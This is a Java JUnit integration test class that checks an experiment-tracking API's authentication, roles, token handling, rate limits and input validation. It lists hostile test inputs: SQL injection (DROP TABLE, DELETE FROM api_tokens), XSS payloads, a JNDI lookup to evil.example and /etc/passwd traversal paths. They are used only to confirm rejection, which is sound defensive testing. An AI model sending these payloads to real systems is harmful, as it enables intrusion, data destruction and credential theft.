package org.normlab.api.auth;

import static org.assertj.core.api.Assertions.assertThat;
import static org.normlab.api.support.ProblemErrors.fields;

import java.net.http.HttpRequest;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.normlab.api.support.ApiIntegrationTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** The obvious attacks on the API, and the roles and tokens that keep them out. */
class AuthIT extends ApiIntegrationTest {

  private static final String SUBMISSION = """
      {"name": "auth-ok", "dataset": "fashion-mnist", "backbone": "resnet10", "norm": "bn",
       "baseWidth": 8, "batchSize": 16, "iterations": 1, "priority": "low"}
      """;

  private static final List<String> INJECTIONS = List.of(
      "x'); DROP TABLE experiments; --",
      "' OR '1'='1",
      "\"; DELETE FROM api_tokens; --",
      "<script>alert(document.cookie)</script>",
      "<img src=x onerror=alert(1)>",
      "${jndi:ldap://evil.example/a}",
      "../../../../etc/passwd");

  @Autowired
  JdbcClient jdbc;

  @Test
  void requestsWithoutATokenAreRefusedWith401() {
    for (Response r : List.of(get("/api/v1/experiments", null), get("/api/v1/queue", null),
        post("/api/v1/experiments", SUBMISSION, null, null), get("/api/v1/no-such-endpoint", null))) {
      assertThat(r.status()).isEqualTo(401);
      assertThat(r.contentType()).startsWith("application/problem+json");
      assertThat(r.body().get("code").asString()).isEqualTo("unauthenticated");
      assertThat(r.headers().firstValue("WWW-Authenticate")).hasValue("Bearer realm=\"normlab\"");
    }
  }

  @Test
  void forgedAndMalformedTokensAreRefusedWith401() {
    String forged = TokenSecrets.newSecret();
    List<String> headers = List.of("Bearer " + forged, "Bearer " + ADMIN_TOKEN + "x", "Bearer " + ADMIN_TOKEN.substring(1),
        "Basic " + ADMIN_TOKEN, ADMIN_TOKEN, "Bearer ", "Bearer " + "a".repeat(5000), "Bearer ' OR '1'='1");
    for (String header : headers) {
      Response r = send(request("/api/v1/experiments", null).header("Authorization", header).GET().build());
      assertThat(r.status()).as(header).isEqualTo(401);
      assertThat(r.body().get("code").asString()).isEqualTo("unauthenticated");
    }
  }

  @Test
  void actuatorProbesNeedNoToken() {
    assertThat(get("/actuator/health", null).status()).isEqualTo(200);
  }

  @Test
  void viewersReadButCannotMutate() {
    String viewer = createToken("viewer-" + UUID.randomUUID(), "viewer", null);

    assertThat(get("/api/v1/experiments", viewer).status()).isEqualTo(200);
    assertThat(get("/api/v1/datasets", viewer).status()).isEqualTo(200);
    Response submit = post("/api/v1/experiments", SUBMISSION, null, viewer);
    assertThat(submit.status()).isEqualTo(403);
    assertThat(submit.contentType()).startsWith("application/problem+json");
    assertThat(submit.body().get("code").asString()).isEqualTo("forbidden");
    assertThat(submit.body().get("required").asString()).isEqualTo("researcher");
    assertThat(submit.body().get("role").asString()).isEqualTo("viewer");
    assertThat(post("/api/v1/experiments/" + UUID.randomUUID() + "/cancel", "", null, viewer).status()).isEqualTo(403);
  }

  @Test
  void researchersSubmitButCannotManageTokens() {
    String researcher = createToken("researcher-" + UUID.randomUUID(), "researcher", null);

    assertThat(post("/api/v1/experiments", SUBMISSION, null, researcher).status()).isEqualTo(201);
    assertThat(get("/api/v1/tokens", researcher).status()).isEqualTo(403);
    Response escalate = post("/api/v1/tokens", "{\"name\": \"mine\", \"role\": \"admin\"}", null, researcher);
    assertThat(escalate.status()).isEqualTo(403);
    assertThat(escalate.body().get("code").asString()).isEqualTo("forbidden");
  }

  @Test
  void aTokensSecretIsShownOnceAndStoredOnlyAsItsHash() {
    String name = "shown-once-" + UUID.randomUUID();
    Response created = post("/api/v1/tokens", "{\"name\": \"" + name + "\", \"role\": \"researcher\"}");
    assertThat(created.status()).isEqualTo(201);
    String secret = created.body().get("secret").asString();
    String id = created.body().get("id").asString();
    assertThat(secret).startsWith("nlt_").hasSizeGreaterThan(40);
    assertThat(created.location()).isEqualTo("/api/v1/tokens/" + id);

    JsonNode listed = find(get("/api/v1/tokens").body(), id);
    assertThat(listed.get("name").asString()).isEqualTo(name);
    assertThat(listed.get("role").asString()).isEqualTo("researcher");
    assertThat(listed.get("createdBy").asString()).isEqualTo("bootstrap");
    assertThat(listed.has("secret")).isFalse();
    assertThat(get("/api/v1/tokens").body().toString()).doesNotContain(secret);
    byte[] stored = jdbc.sql("SELECT secret_sha256 FROM api_tokens WHERE id = ?::uuid").param(id)
        .query(byte[].class).single();
    assertThat(stored).isEqualTo(TokenSecrets.sha256(secret));
  }

  @Test
  void aRevokedTokenIsRefusedFromTheNextRequest() {
    Response created = post("/api/v1/tokens", "{\"name\": \"revoke-me\", \"role\": \"viewer\"}");
    String secret = created.body().get("secret").asString();
    String id = created.body().get("id").asString();
    assertThat(get("/api/v1/experiments", secret).status()).isEqualTo(200); // now cached as valid

    Response revoked = post("/api/v1/tokens/" + id + "/revoke", "");
    assertThat(revoked.status()).isEqualTo(200);
    assertThat(revoked.body().get("revokedAt").isNull()).isFalse();

    Response after = get("/api/v1/experiments", secret);
    assertThat(after.status()).isEqualTo(401);
    assertThat(after.body().get("code").asString()).isEqualTo("unauthenticated");
    assertThat(post("/api/v1/tokens/" + UUID.randomUUID() + "/revoke", "").status()).isEqualTo(404);
  }

  @Test
  void badTokenRequestsNameEveryFieldAndTheAllowedRoles() {
    Response r = post("/api/v1/tokens", "{\"name\": \"../../etc/passwd\", \"role\": \"root\", \"requestsPerSecond\": 0}");

    assertThat(r.status()).isEqualTo(400);
    assertThat(fields(r.body().get("errors"))).containsExactlyInAnyOrder("name", "role", "requestsPerSecond");
    assertThat(org.normlab.api.support.ProblemErrors.allowed(r.body().get("errors"), "role"))
        .containsExactly("viewer", "researcher", "admin");
  }

  @Test
  void injectionInEveryStringFieldIsStoredVerbatimOrRefusedAndNeverExecuted() {
    long experimentsBefore = count("experiments");
    List<String> stored = new ArrayList<>();
    for (String attack : INJECTIONS) {
      // Free-text fields keep the text exactly as sent and return it as a JSON string.
      Response created = post("/api/v1/experiments", submission(Map.of("name", attack)).toString());
      assertThat(created.status()).as(attack).isEqualTo(201);
      assertThat(created.contentType()).startsWith("application/json");
      String id = created.body().get("id").asString();
      assertThat(get("/api/v1/experiments/" + id).body().get("name").asString()).isEqualTo(attack);
      stored.add(id);

      // Every vocabulary field refuses it, echoing it back as data.
      Response refused = post("/api/v1/experiments", submission(Map.of("task", attack, "dataset", attack,
          "backbone", attack, "norm", attack, "priority", attack, "owner", attack, "augmentation", attack,
          "validation", attack)).toString());
      assertThat(refused.status()).as(attack).isEqualTo(400);
      assertThat(fields(refused.body().get("errors"))).containsExactlyInAnyOrder(
          "task", "dataset", "backbone", "norm", "priority", "owner", "augmentation", "validation");
      assertThat(refused.body().get("errors").get(0).get("rejected").asString()).isEqualTo(attack);
      Response badRecipe = post("/api/v1/experiments", submission(Map.of("recipe", attack)).toString());
      assertThat(badRecipe.status()).as(attack).isEqualTo(400);
      assertThat(fields(badRecipe.body().get("errors"))).contains("recipe");

      ObjectNode schedule = submission(Map.of());
      schedule.putObject("optimizer").putObject("schedule").put("type", attack);
      assertThat(fields(post("/api/v1/experiments", schedule.toString()).body().get("errors")))
          .containsExactly("optimizer.schedule.type");

      // As a query filter it is a substring to look for, not SQL.
      Response filtered = send(request("/api/v1/experiments?size=200&name="
          + java.net.URLEncoder.encode(attack, java.nio.charset.StandardCharsets.UTF_8), ADMIN_TOKEN).GET().build());
      assertThat(filtered.status()).isEqualTo(200);
      filtered.body().get("content").forEach(item -> assertThat(item.get("name").asString()).contains(attack));

      // An Idempotency-Key outside its alphabet is refused, not used in a query.
      assertThat(post("/api/v1/experiments", SUBMISSION, attack).status()).isEqualTo(400);
    }
    // The database is intact: every table still there, exactly the accepted rows added.
    assertThat(count("experiments")).isEqualTo(experimentsBefore + stored.size());
    assertThat(tableExists("api_tokens")).isTrue();
  }

  @Test
  void scriptInPretrainedSourceIsStoredVerbatimAndReturnedAsJsonData() {
    String script = "<script>fetch('/api/v1/tokens')</script> '; DROP TABLE api_tokens; --";
    ObjectNode body = JSON.createObjectNode();
    body.put("name", "pretrained-" + UUID.randomUUID());
    body.put("dataset", "fashion-mnist");
    body.put("backbone", "resnet18");
    body.put("norm", "bn");
    body.put("source", script);
    ObjectNode weights = body.putObject("weights");
    weights.put("uri", "pretrained/inject.npz");
    weights.put("sha256", "a".repeat(64));
    weights.put("sizeBytes", 10);

    Response created = post("/api/v1/pretrained", body.toString());

    assertThat(created.status()).isEqualTo(201);
    assertThat(created.contentType()).startsWith("application/json");
    assertThat(created.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    Response read = get(created.location());
    assertThat(read.body().get("source").asString()).isEqualTo(script);
    assertThat(tableExists("api_tokens")).isTrue();
  }

  @Test
  void pathTraversalInNamesIsRefused() {
    for (String uri : List.of("pretrained/../../etc/passwd.npz", "pretrained/..\\..\\etc\\x.npz", "/etc/passwd.npz",
        "pretrained/./x.npz", "file:/etc/x.npz")) {
      ObjectNode body = JSON.createObjectNode();
      body.put("name", "traversal");
      body.put("dataset", "fashion-mnist");
      body.put("backbone", "resnet18");
      body.put("norm", "bn");
      body.put("source", "s");
      ObjectNode weights = body.putObject("weights");
      weights.put("uri", uri);
      weights.put("sha256", "a".repeat(64));
      weights.put("sizeBytes", 10);
      Response r = post("/api/v1/pretrained", body.toString());
      assertThat(r.status()).as(uri).isEqualTo(400);
      assertThat(fields(r.body().get("errors"))).as(uri).containsExactly("weights.uri");
    }
    for (String dataset : List.of("../fashion-mnist", "fashion-mnist/../../etc", "/etc/passwd")) {
      Response r = post("/api/v1/experiments", submission(Map.of("dataset", dataset)).toString());
      assertThat(r.status()).as(dataset).isEqualTo(400);
      assertThat(fields(r.body().get("errors"))).containsExactly("dataset");
    }
    // Encoded traversal in a path segment never leaves the API's routes or reaches the file system.
    for (String path : List.of("/api/v1/leaderboards/..%2F..%2Fetc%2Fpasswd", "/api/v1/leaderboards/%2e%2e",
        "/api/v1/experiments/..%2Ftokens")) {
      int status = get(path).status();
      assertThat(status).as(path).isIn(400, 404);
    }
  }

  @Test
  void hugeBodiesAreRefusedWith413BeforeBeingRead() {
    String huge = "{\"name\": \"" + "x".repeat(2_000_000) + "\"}";
    Response declared = post("/api/v1/experiments", huge);
    assertThat(declared.status()).isEqualTo(413);
    assertThat(declared.body().get("code").asString()).isEqualTo("body-too-large");

    // Chunked: no Content-Length, so the limit applies while reading.
    Response chunked = send(request("/api/v1/experiments", ADMIN_TOKEN).header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofInputStream(
            () -> new java.io.ByteArrayInputStream(huge.getBytes(java.nio.charset.StandardCharsets.UTF_8))))
        .build());
    assertThat(chunked.status()).isEqualTo(413);
    assertThat(chunked.body().get("code").asString()).isEqualTo("body-too-large");

    // Without a token it is refused before anything reads it.
    assertThat(post("/api/v1/experiments", huge, null, null).status()).isEqualTo(401);
  }

  @Test
  void aTokenOverItsRateIsThrottledWith429AndRetryAfterWhileOthersAreNot() {
    String slow = createToken("rate-" + UUID.randomUUID(), "viewer", 2);
    List<Response> answers = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      answers.add(get("/api/v1/datasets", slow));
    }

    assertThat(answers.get(0).status()).isEqualTo(200);
    Response limited = answers.stream().filter(r -> r.status() == 429).findFirst().orElseThrow();
    assertThat(limited.contentType()).startsWith("application/problem+json");
    assertThat(limited.body().get("code").asString()).isEqualTo("rate-limited");
    assertThat(Long.parseLong(limited.headers().firstValue("Retry-After").orElseThrow())).isBetween(1L, 2L);
    assertThat(get("/api/v1/datasets").status()).isEqualTo(200);
  }

  private String createToken(String name, String role, Integer rate) {
    ObjectNode body = JSON.createObjectNode();
    body.put("name", name);
    body.put("role", role);
    if (rate != null) {
      body.put("requestsPerSecond", rate);
    }
    Response created = post("/api/v1/tokens", body.toString());
    assertThat(created.status()).isEqualTo(201);
    return created.body().get("secret").asString();
  }

  private static ObjectNode submission(Map<String, String> overrides) {
    ObjectNode node = (ObjectNode) JSON.readTree(SUBMISSION);
    overrides.forEach(node::put);
    return node;
  }

  private static JsonNode find(JsonNode list, String id) {
    for (JsonNode n : list) {
      if (n.get("id").asString().equals(id)) {
        return n;
      }
    }
    throw new AssertionError("no token " + id + " in " + list);
  }

  private boolean tableExists(String table) {
    return jdbc.sql("SELECT to_regclass(?) IS NOT NULL").param(table).query(Boolean.class).single();
  }

  private long count(String table) {
    return jdbc.sql("SELECT count(*) FROM " + table).query(Long.class).single();
  }
}
